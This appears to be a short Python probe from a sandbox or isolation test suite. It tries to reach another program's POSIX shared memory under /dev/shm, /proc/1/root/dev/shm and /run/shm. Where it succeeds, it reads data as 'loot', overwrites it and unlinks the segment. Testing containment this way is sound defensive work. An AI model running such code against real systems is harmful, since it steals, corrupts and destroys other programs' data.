"""Read, write and unlink POSIX shared memory of a program outside."""

# aims: outside
# control: harms
import os

from attack import attempt, loot, target, tried

tried()
name = target["shm_name"]
for path in (f"/dev/shm/{name}", f"/proc/1/root/dev/shm/{name}", f"/run/shm/{name}"):
    file = attempt(os.open, path, os.O_RDWR)
    if file is not None:
        loot(os.read(file, 64))
        os.pwrite(file, b"changed", 0)
    attempt(os.unlink, path)
